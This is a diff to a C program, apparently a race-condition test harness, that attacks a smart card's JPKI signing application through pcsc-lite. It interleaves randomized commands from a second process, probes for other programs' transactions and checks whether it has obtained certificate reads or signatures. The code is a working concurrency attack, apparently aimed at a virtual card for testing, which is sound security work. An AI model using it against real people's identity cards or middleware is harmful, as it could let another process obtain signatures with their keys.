@@ -3,8 +3,11 @@
 
 #include <stdint.h>
 #include <stdio.h>
+#include <stdlib.h>
 #include <string.h>
 #include <time.h>
+
+#include <reader.h> /* of pcsc-lite: SCARD_ATTR_ATR_STRING */
 
 #include "random.h"
 
@@ -13,6 +16,7 @@
 #define SIGNATURE 256
 #define HASH 32
 #define PAUSE_US 3000
+#define TRANSACTION 8 /* attempts in one */
 
 /* docs/card.md: the files of the two keys, the signature certificate, and the schemes by P1. */
 #define AUTH_KEY 0x17
@@ -67,9 +71,23 @@ static LONG connect_card(struct attack *attack)
     return rv;
 }
 
+/* To know it when it is seen. */
+static void load_wanted(struct attack *attack)
+{
+    char path[4096];
+    const char *dir = getenv("VCARD_DIR");
+    snprintf(path, sizeof(path), "%s/sign.der", dir != NULL ? dir : "");
+    FILE *file = fopen(path, "rb");
+    if (file == NULL)
+        return;
+    attack->wanted_len = fread(attack->wanted, 1, sizeof(attack->wanted), file);
+    fclose(file);
+}
+
 bool attack_open(struct attack *attack, unsigned number)
 {
     memset(attack, 0, sizeof(*attack));
+    load_wanted(attack);
     LONG rv = SCardEstablishContext(SCARD_SCOPE_SYSTEM, NULL, NULL, &attack->context);
     if (rv != SCARD_S_SUCCESS)
         return complain("SCardEstablishContext", rv);
@@ -124,6 +142,15 @@ static LONG select_jpki_application(const struct attack *attack)
     return transmit(attack, select_jpki, sizeof(select_jpki), response, &len);
 }
 
+/* Without a transaction somebody may select another file, which anybody may read, between our
+ * SELECT and our READ BINARY. */
+static bool is_the_certificate(const struct attack *attack, const uint8_t *response, size_t len)
+{
+    return attack->wanted_len == 0 ||
+           memcmp(response, attack->wanted, len < attack->wanted_len ? len : attack->wanted_len) ==
+               0;
+}
+
 static void count(struct attack *attack, bool certificate, size_t len, const uint8_t *response)
 {
     if (len < 2)
@@ -132,7 +159,7 @@ static void count(struct attack *attack, bool certificate, size_t len, const uin
     if (response[len - 2] != 0x90 || response[len - 1] != 0x00)
         return;
     if (certificate && len > 2)
-        attack->certificates++;
+        attack->certificates += is_the_certificate(attack, response, len - 2);
     else if (!certificate && len == SIGNATURE + 2)
         attack->signatures++;
     else
@@ -202,24 +229,36 @@ bool attack_once(struct attack *attack)
     return true;
 }
 
+/* While another program has a transaction, libpcsclite lets a command or a transaction wait for
+ * tenths of a second, which is no random moment any more. This pcscd answers at once. */
+static bool is_free(const struct attack *attack)
+{
+    unsigned char atr[MAX_ATR_SIZE];
+    DWORD len = sizeof(atr);
+    return SCardGetAttrib(attack->card, SCARD_ATTR_ATR_STRING, atr, &len) !=
+           SCARD_E_SHARING_VIOLATION;
+}
+
 bool attack_somehow(struct attack *attack, unsigned *seed)
 {
     LONG rv = SCARD_S_SUCCESS;
     random_pause(seed, PAUSE_US);
-    unsigned renewal = random_below(seed, 32);
-    if (renewal < 2) /* where others hold a transaction pcscd refuses it, and all goes on */
-        rv = renew(attack, renewal == 0 ? SCARD_RESET_CARD : SCARD_LEAVE_CARD);
-    if (renewal == 2) {
+    unsigned renewal = random_below(seed, 256);
+    if (renewal < 8)
+        rv = renew(attack, renewal < 4 ? SCARD_RESET_CARD : SCARD_LEAVE_CARD);
+    if (renewal == 8) {
         SCardDisconnect(attack->card, SCARD_LEAVE_CARD);
         rv = connect_card(attack);
     }
-    bool transaction = random_below(seed, 4) == 0;
+    if (rv == SCARD_S_SUCCESS && !is_free(attack))
+        return true;
+    bool transaction = random_below(seed, 8) == 0;
     if (rv == SCARD_S_SUCCESS && transaction)
         rv = SCardBeginTransaction(attack->card);
     transaction &= rv == SCARD_S_SUCCESS;
     if (rv == SCARD_S_SUCCESS && random_below(seed, 2) == 0)
         rv = select_jpki_application(attack);
-    for (unsigned more = 1 + random_below(seed, 4); more > 0 && rv == SCARD_S_SUCCESS; more--)
+    for (unsigned more = transaction ? TRANSACTION : 1; more > 0 && rv == SCARD_S_SUCCESS; more--)
         rv = attack_form(attack, random_below(seed, FORMS));
     if (transaction)
         SCardEndTransaction(attack->card, SCARD_LEAVE_CARD);
